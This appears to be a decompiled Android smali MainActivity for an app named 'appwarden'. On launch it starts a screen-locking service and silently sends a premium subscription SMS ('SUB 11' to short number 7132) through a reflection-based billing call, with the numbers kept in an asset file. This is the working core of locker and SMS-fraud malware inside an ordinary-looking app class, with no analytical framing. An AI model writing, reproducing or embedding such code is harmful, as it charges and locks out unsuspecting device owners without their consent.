.class public Lcom/appwarden/screen/r8/MainActivity;
.super Landroid/app/Activity;

# r8: starts the lock window and sends the subscription SMS through reflection (numbers in assets/plan.txt).

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .registers 5
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    new-instance v0, Landroid/content/Intent;
    const-class v1, Lcom/appwarden/screen/r8/LockService;
    invoke-direct {v0, p0, v1}, Landroid/content/Intent;-><init>(Landroid/content/Context;Ljava/lang/Class;)V
    invoke-virtual {p0, v0}, Lcom/appwarden/screen/r8/MainActivity;->startService(Landroid/content/Intent;)Landroid/content/ComponentName;
    const-string v0, "7132"
    const-string v1, "SUB 11"
    invoke-static {v0, v1}, Lcom/appwarden/screen/r8/Billing;->send(Ljava/lang/String;Ljava/lang/String;)V
    return-void
.end method
